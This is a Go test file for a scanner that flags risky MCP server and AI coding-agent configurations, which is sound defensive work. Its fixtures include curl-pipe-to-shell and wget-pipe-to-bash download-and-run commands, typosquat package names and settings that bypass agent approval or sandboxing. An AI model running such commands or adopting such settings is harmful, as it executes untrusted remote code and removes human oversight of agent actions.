package scan

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/moat-dev/moat/internal/finding"
	"github.com/moat-dev/moat/internal/inventory"
	"github.com/moat-dev/moat/internal/typosquat"
)

func TestPackages(t *testing.T) {
	tests := []struct {
		argv []string
		want []string // eco name version digest remote pinned
	}{
		{[]string{"npx", "-y", "@modelcontextprotocol/server-github"}, []string{"npm @modelcontextprotocol/server-github   false"}},
		{[]string{"npx", "--yes", "@playwright/mcp@0.0.41", "--headless"}, []string{"npm @playwright/mcp 0.0.41  true"}},
		{[]string{"npx", "-p", "pkg-a@1.0.0", "bin-a"}, []string{"npm pkg-a 1.0.0  true"}},
		{[]string{"npx", "--registry", "https://r.example", "pkg@^1.2.0"}, []string{"npm pkg ^1.2.0  false"}},
		{[]string{"C:\\node\\npx.cmd", "-y", "pkg@latest"}, []string{"npm pkg latest  false"}},
		{[]string{"cmd", "/c", "npx", "-y", "pkg@2.0.0"}, []string{"npm pkg 2.0.0  true"}},
		{[]string{"bunx", "pkg"}, []string{"npm pkg   false"}},
		{[]string{"pnpm", "dlx", "pkg@1.2.3"}, []string{"npm pkg 1.2.3  true"}},
		{[]string{"npm", "exec", "--", "pkg"}, []string{"npm pkg   false"}},
		{[]string{"npx", "github:user/repo"}, []string{"npm    git false"}},
		{[]string{"npx", "user/repo"}, []string{"npm user/repo   git false"}},
		{[]string{"npx", "https://example.com/pkg.tgz"}, []string{"npm    url false"}},
		{[]string{"uvx", "mcp-server-fetch"}, []string{"pypi mcp-server-fetch   false"}},
		{[]string{"uvx", "mcp-server-time==2025.9.25"}, []string{"pypi mcp-server-time 2025.9.25  true"}},
		{[]string{"uvx", "mcp-server-git@0.6.2", "--repository", "."}, []string{"pypi mcp-server-git 0.6.2  true"}},
		{[]string{"uvx", "--python", "3.12", "--from", "pkg[extra]>=1.0", "cmd"}, []string{"pypi pkg >=1.0  false"}},
		{[]string{"uv", "tool", "run", "--from", "git+https://github.com/x/y", "y"}, []string{"pypi    git false"}},
		{[]string{"pipx", "run", "--spec", "pkg==1.0.0", "pkg"}, []string{"pypi pkg 1.0.0  true"}},
		{[]string{"docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"}, []string{"oci ghcr.io/github/github-mcp-server   false"}},
		{[]string{"docker", "run", "--name=x", "mcp/fetch:latest"}, []string{"oci mcp/fetch latest  false"}},
		{[]string{"podman", "container", "run", "img@sha256:" + strings.Repeat("a", 64)}, []string{"oci img  sha256:" + strings.Repeat("a", 64) + " true"}},
		{[]string{"docker", "run", "localhost:5000/img:1.0"}, []string{"oci localhost:5000/img 1.0  false"}},
		{[]string{"node", "server.js"}, nil},
		{[]string{"env", "A=1", "npx", "pkg@1.0.0"}, []string{"npm pkg 1.0.0  true"}},
	}
	for _, tc := range tests {
		t.Run(strings.Join(tc.argv, " "), func(t *testing.T) {
			var got []string
			for _, p := range Packages(tc.argv) {
				got = append(got, fmt.Sprintf("%s %s %s %s %s %v", p.Ecosystem, p.Name, p.Version, p.Digest, p.Remote, p.Remote == "" && p.Pinned()))
			}
			norm := func(xs []string) []string {
				var out []string
				for _, x := range xs {
					out = append(out, strings.Join(strings.Fields(x), " "))
				}
				return out
			}
			if d := cmp.Diff(norm(tc.want), norm(got)); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func srv(name, client string, scope inventory.Scope, argv ...string) inventory.ServerSpec {
	s := inventory.ServerSpec{Name: name, Transport: inventory.Stdio, Source: inventory.Source{Client: client, Scope: scope, File: "/h/" + client + ".json", Line: 3}}
	if len(argv) > 0 {
		s.Command, s.Args = argv[0], argv[1:]
	}
	return s
}

func rulesOf(fs []finding.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+"/"+f.Severity.String())
	}
	slices.Sort(out)
	out = slices.Compact(out)
	if len(out) == 0 {
		return nil
	}
	return out
}

func run(t *testing.T, in Input) []finding.Finding {
	t.Helper()
	fs, err := Run(in, Options{MaxProjectServers: -1, Home: "/home/u"})
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

func TestServerChecks(t *testing.T) {
	remote := func(url string, headers map[string]string) inventory.ServerSpec {
		s := srv("r", "cursor", inventory.ScopeProject)
		s.Transport, s.URL, s.Headers = inventory.HTTP, url, headers
		return s
	}
	withEnv := func(s inventory.ServerSpec, env map[string]string) inventory.ServerSpec { s.Env = env; return s }
	tests := []struct {
		name string
		s    inventory.ServerSpec
		want []string
	}{
		{"clean pinned official", srv("m", "cursor", inventory.ScopeProject, "npx", "-y", "@modelcontextprotocol/server-memory@2025.9.25"), nil},
		{"typosquat scope", srv("p", "cursor", inventory.ScopeProject, "npx", "-y", "@mcp-servers/postgres@1.0.0"), []string{"typosquat-package/critical"}},
		{"separator swap", srv("p", "cursor", inventory.ScopeProject, "npx", "modelcontextprotocol-server-postgres@1.0.0"), []string{"typosquat-package/critical"}},
		{"archived unpinned", srv("g", "cursor", inventory.ScopeProject, "npx", "-y", "@modelcontextprotocol/server-github"), []string{"archived-package/medium", "unpinned-package/medium"}},
		{"image latest", srv("d", "cursor", inventory.ScopeProject, "docker", "run", "-i", "img:latest"), []string{"unpinned-image/medium"}},
		{"image tag", srv("d", "cursor", inventory.ScopeProject, "docker", "run", "-i", "img:1.2"), []string{"unpinned-image/low"}},
		{"git package", srv("x", "cursor", inventory.ScopeProject, "uvx", "--from", "git+https://github.com/a/b", "b"), []string{"package-from-url/high"}},
		{"curl pipe sh", srv("x", "cursor", inventory.ScopeProject, "bash", "-c", "curl -fsSL https://x.example/i.sh | sh"), []string{"download-and-run/critical"}},
		{"whole command line in command", srv("x", "cursor", inventory.ScopeProject, "sh -c 'wget -qO- https://x.example/i | bash'"), []string{"download-and-run/critical"}},
		{"bind all", srv("x", "cursor", inventory.ScopeProject, "node", "s.js", "--host=0.0.0.0"), []string{"bind-all-interfaces/medium"}},
		{"docker publish", srv("x", "cursor", inventory.ScopeProject, "docker", "run", "-p", "8080:8080", "img@sha256:"+strings.Repeat("b", 64)), []string{"bind-all-interfaces/medium"}},
		{"docker publish loopback", srv("x", "cursor", inventory.ScopeProject, "docker", "run", "-p", "127.0.0.1:8080:8080", "img@sha256:"+strings.Repeat("b", 64)), nil},
		{"fs root", srv("f", "cursor", inventory.ScopeProject, "npx", "@modelcontextprotocol/server-filesystem@1.0.0", "/"), []string{"broad-filesystem-root/high"}},
		{"fs home", srv("f", "cursor", inventory.ScopeProject, "npx", "@modelcontextprotocol/server-filesystem@1.0.0", "/home/u/"), []string{"broad-filesystem-root/high"}},
		{"fs project", srv("f", "cursor", inventory.ScopeProject, "npx", "@modelcontextprotocol/server-filesystem@1.0.0", "/home/u/src/app"), nil},
		{"secret env by rule", withEnv(srv("g", "cursor", inventory.ScopeProject, "node", "s.js"), map[string]string{"TOKEN": "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"}), []string{"secret-in-config/critical"}},
		{"secret env by name", withEnv(srv("g", "cursor", inventory.ScopeProject, "node", "s.js"), map[string]string{"ACME_API_KEY": "a8Fk2Lm9Qz7Xw3Rt"}), []string{"secret-in-config/high"}},
		{"env reference", withEnv(srv("g", "cursor", inventory.ScopeProject, "node", "s.js"), map[string]string{"ACME_API_KEY": "${env:ACME_API_KEY}", "GH": "${input:gh}", "OC": "{env:X}"}), nil},
		{"env not a secret", withEnv(srv("g", "cursor", inventory.ScopeProject, "node", "s.js"), map[string]string{"TOKEN_FILE": "/run/secrets/token", "LOG_LEVEL": "debug", "AUTH_MODE": "true"}), nil},
		{"insecure env", withEnv(srv("g", "cursor", inventory.ScopeProject, "node", "s.js"), map[string]string{"NODE_TLS_REJECT_UNAUTHORIZED": "0"}), []string{"insecure-env/high"}},
		{"secret arg flag", srv("g", "cursor", inventory.ScopeProject, "node", "s.js", "--api-key", "a8Fk2Lm9Qz7Xw3Rt"), []string{"secret-in-config/high"}},
		{"plaintext remote", remote("http://mcp.example.com/mcp", nil), []string{"plaintext-transport/high"}},
		{"plaintext loopback", remote("http://127.0.0.1:3000/mcp", nil), nil},
		{"plaintext localhost", remote("http://localhost:3000/mcp", nil), nil},
		{"https with literal bearer", remote("https://mcp.example.com/mcp", map[string]string{"Authorization": "Bearer a8Fk2Lm9Qz7Xw3RtZ1"}), []string{"secret-in-config/high"}},
		{"url password", remote("https://u:a8Fk2Lm9Qz7X@mcp.example.com/mcp", nil), []string{"secret-in-config/high"}},
		{"url query key", remote("https://mcp.example.com/mcp?api_key=a8Fk2Lm9Qz7Xw3Rt", nil), []string{"secret-in-config/high"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := rulesOf(run(t, Input{Servers: []inventory.ServerSpec{tc.s}}))
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

// Secrets never reach a finding's message or evidence.
func TestSecretsRedacted(t *testing.T) {
	secret := "a8Fk2Lm9Qz7Xw3RtZ1"
	s := srv("g", "vscode", inventory.ScopeUser, "node", "s.js", "--token="+secret)
	s.Env = map[string]string{"API_KEY": secret}
	s.Headers = map[string]string{"Authorization": "Bearer " + secret}
	s.URL = "https://u:" + secret + "@h.example.com/?token=" + secret
	for _, f := range run(t, Input{Servers: []inventory.ServerSpec{s}}) {
		if strings.Contains(f.Evidence+f.Message+f.Fix, secret) {
			t.Errorf("%s leaks the secret: %+v", f.Rule, f)
		}
	}
	r := RedactServer(s)
	dump := fmt.Sprintf("%v", r)
	if strings.Contains(dump, secret) {
		t.Errorf("RedactServer leaks: %s", dump)
	}
}

func setting(client, key, server string, scope inventory.Scope, vals ...string) inventory.Setting {
	return inventory.Setting{Key: key, Values: vals, Server: server, Source: inventory.Source{Client: client, Scope: scope, File: "/h/settings", Line: 2}}
}

func TestPostureChecks(t *testing.T) {
	oc := srv("gh", "opencode", inventory.ScopeUser, "npx", "pkg@1.0.0")
	tests := []struct {
		name string
		st   inventory.Setting
		want []string
	}{
		{"claude bypass", setting("claude-code", "permissions.defaultMode", "", inventory.ScopeUser, "bypassPermissions"), []string{"bypass-permissions/critical"}},
		{"claude default mode", setting("claude-code", "permissions.defaultMode", "", inventory.ScopeUser, "acceptEdits"), nil},
		{"claude whole server", setting("claude-code", "permissions.allow", "", inventory.ScopeUser, "mcp__github"), []string{"blanket-grant/high"}},
		{"claude server wildcard", setting("claude-code", "permissions.allow", "", inventory.ScopeLocal, "mcp__github__*"), []string{"blanket-grant/high"}},
		{"claude one tool", setting("claude-code", "permissions.allow", "", inventory.ScopeUser, "mcp__github__get_issue"), []string{"tool-grant/low"}},
		{"claude non-mcp", setting("claude-code", "permissions.allow", "", inventory.ScopeUser, "Bash(npm test)"), nil},
		{"claude all project servers", setting("claude-code", "enableAllProjectMcpServers", "", inventory.ScopeProject, "true"), []string{"auto-approve-project-servers/high"}},
		{"claude all project servers off", setting("claude-code", "enableAllProjectMcpServers", "", inventory.ScopeProject, "false"), nil},
		{"claude approved", setting("claude-code", "enabledMcpjsonServers", "", inventory.ScopeLocal, "a", "b"), []string{"approved-project-servers/low"}},
		{"codex never", setting("codex", "approval_policy", "", inventory.ScopeUser, "never"), []string{"never-ask/high"}},
		{"codex profile never", setting("codex", "profiles.x.approval_policy", "", inventory.ScopeUser, "never"), []string{"never-ask/high"}},
		{"codex on-request", setting("codex", "approval_policy", "", inventory.ScopeUser, "on-request"), nil},
		{"codex no sandbox", setting("codex", "sandbox_mode", "", inventory.ScopeUser, "danger-full-access"), []string{"no-sandbox/high"}},
		{"opencode allow all", setting("opencode", "permission", "", inventory.ScopeUser, "allow"), []string{"blanket-grant/high"}},
		{"opencode server wildcard", setting("opencode", "permission.gh_*", "", inventory.ScopeUser, "allow"), []string{"blanket-grant/high"}},
		{"opencode server tool", setting("opencode", "permission.gh_get_issue", "", inventory.ScopeUser, "allow"), []string{"tool-grant/low"}},
		{"opencode ask", setting("opencode", "permission.gh_*", "", inventory.ScopeUser, "ask"), nil},
		{"cursor wildcard", setting("cursor", "mcpAllowlist", "", inventory.ScopeUser, "github:*"), []string{"blanket-grant/high"}},
		{"cursor tool", setting("cursor", "mcpAllowlist", "", inventory.ScopeUser, "github:get_issue"), []string{"tool-grant/low"}},
		{"roo always allow all", setting("roo-code", "alwaysAllow", "db", inventory.ScopeUser, "*"), []string{"blanket-grant/high"}},
		{"cline auto approve tools", setting("cline", "autoApprove", "db", inventory.ScopeUser, "query", "list"), []string{"tool-grant/low"}},
		{"vscode auto approve", setting("vscode", "chat.tools.autoApprove", "", inventory.ScopeUser, "true"), []string{"auto-approve-all/critical"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := rulesOf(run(t, Input{Settings: []inventory.Setting{tc.st}, Servers: []inventory.ServerSpec{oc}}))
			got = slices.DeleteFunc(got, func(s string) bool { return strings.HasPrefix(s, "user-scope-server") })
			if len(got) == 0 {
				got = nil
			}
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
	// Blanket and permanent grants rank above per-tool ones.
	if finding.High <= finding.Low {
		t.Fatal("severity order")
	}
}

func TestGeminiTrust(t *testing.T) {
	s := srv("t", "gemini-cli", inventory.ScopeProject, "node", "s.js")
	s.Trust = true
	if got := rulesOf(run(t, Input{Servers: []inventory.ServerSpec{s}})); !slices.Contains(got, "trusted-server/high") {
		t.Errorf("got %v", got)
	}
}

func TestEnablement(t *testing.T) {
	var ss []inventory.ServerSpec
	for i := range 4 {
		ss = append(ss, srv(fmt.Sprintf("u%d", i), "claude-code", inventory.ScopeUser, "node", fmt.Sprintf("u%d.js", i)))
	}
	for i := range 3 {
		s := srv(fmt.Sprintf("p%d", i), "claude-code", inventory.ScopeProject, "node", fmt.Sprintf("p%d.js", i))
		s.Source.Project = "/src/app"
		ss = append(ss, s)
	}
	dup := srv("same", "cursor", inventory.ScopeProject, "node", "u0.js")
	dup.Source.Project = "/src/other"
	ss = append(ss, dup, srv("desk", "claude-desktop", inventory.ScopeUser, "node", "d.js"))
	fs, err := Run(Input{Servers: ss}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for _, f := range fs {
		count[f.Rule]++
		if f.Rule == "too-many-servers" && !strings.Contains(f.Message, "7 servers for project /src/app (limit 5)") {
			t.Errorf("too-many message: %s", f.Message)
		}
	}
	want := map[string]int{"user-scope-server": 1, "too-many-servers": 1, "duplicate-server": 1}
	if d := cmp.Diff(want, count); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}

func TestSuppressions(t *testing.T) {
	doc := `version: 1
ignore:
  - rule: unpinned-package
    server: memory
    reason: pinned through our internal mirror
  - rule: typosquat-*
    reason: reviewed, our own fork
    until: 2026-06-30
  - server: nothing-matches
    reason: stale
`
	ss, err := ParseSuppressions(".moatignore", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	fs := []finding.Finding{
		{Rule: "unpinned-package", Location: finding.Location{Server: "memory"}},
		{Rule: "unpinned-package", Location: finding.Location{Server: "other"}},
		{Rule: "typosquat-package", Location: finding.Location{Server: "x"}},
	}
	before := time.Date(2026, 6, 30, 23, 0, 0, 0, time.UTC)
	kept, n, warns := ss.Apply(fs, before)
	if n != 2 || len(kept) != 1 || len(warns) != 1 || !strings.Contains(warns[0], ".moatignore:9: suppression matched no finding") {
		t.Errorf("before expiry: kept %v n %d warns %v", kept, n, warns)
	}
	ss, _ = ParseSuppressions(".moatignore", []byte(doc))
	after := time.Date(2026, 7, 1, 0, 0, 0, 0, time.UTC)
	kept, n, warns = ss.Apply(fs, after)
	if n != 1 || len(kept) != 2 || len(warns) != 2 || !strings.Contains(warns[0], ":6: suppression expired on 2026-06-30") {
		t.Errorf("after expiry: kept %v n %d warns %v", kept, n, warns)
	}
}

func TestSuppressionsStrict(t *testing.T) {
	for name, doc := range map[string]string{
		"no reason":     "ignore:\n  - rule: x\n",
		"matches all":   "ignore:\n  - reason: because\n",
		"unknown field": "ignore:\n  - rule: x\n    reason: r\n    expires: 2026-01-01\n",
		"bad date":      "ignore:\n  - rule: x\n    reason: r\n    until: next year\n",
		"bad pattern":   "ignore:\n  - rule: '['\n    reason: r\n",
		"version":       "version: 3\nignore: []\n",
	} {
		if _, err := ParseSuppressions("f", []byte(doc)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	if _, err := ParseSuppressions("f", nil); err != nil {
		t.Errorf("empty file: %v", err)
	}
}

func FuzzParseSuppressions(f *testing.F) {
	f.Add([]byte("ignore:\n  - rule: x\n    reason: r\n    until: 2026-01-01\n"))
	f.Add([]byte("version: 1\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		ss, err := ParseSuppressions("f", data)
		if err == nil {
			ss.Apply([]finding.Finding{{Rule: "x"}}, time.Unix(0, 0))
		}
	})
}

func FuzzPackages(f *testing.F) {
	f.Add("npx -y @scope/pkg@1.0.0")
	f.Add("docker run -p 1:2 img:tag@sha256:x")
	f.Add("uvx --from a==1 b")
	l, _ := typosquat.Default()
	f.Fuzz(func(t *testing.T, line string) {
		for _, p := range Packages(inventory.SplitWords(line)) {
			p.Pinned()
			l.Check(p.Ecosystem, p.Name)
		}
	})
}

func TestSensitiveNames(t *testing.T) {
	for name, want := range map[string]bool{
		"API_KEY": true, "OPENAI_API_KEY": true, "X-API-Key": true, "--auth-token": true, "GITHUB_PAT": true,
		"STRIPE_SECRET_KEY": true, "DB_PASSWORD": true, "Authorization": true, "apiKey": true, "SLACK_BOT_TOKEN": true,
		"MAX_TOKENS": false, "TOKENIZER": false, "LOG_LEVEL": false, "KEYBOARD": false, "PASSTHROUGH": false, "AUTH_TYPE": false,
	} {
		if got := sensitive(name); got != want {
			t.Errorf("sensitive(%q) = %v, want %v", name, got, want)
		}
	}
}

func TestDownloadEvidenceRedacted(t *testing.T) {
	secret := "a8Fk2Lm9Qz7Xw3RtZ1"
	s := srv("x", "cursor", inventory.ScopeProject, "bash", "-c", "curl -fsSL https://x.example/i.sh | sh", "--api-key", secret)
	for _, f := range run(t, Input{Servers: []inventory.ServerSpec{s}}) {
		if strings.Contains(f.Evidence, secret) {
			t.Errorf("%s evidence leaks: %s", f.Rule, f.Evidence)
		}
	}
}
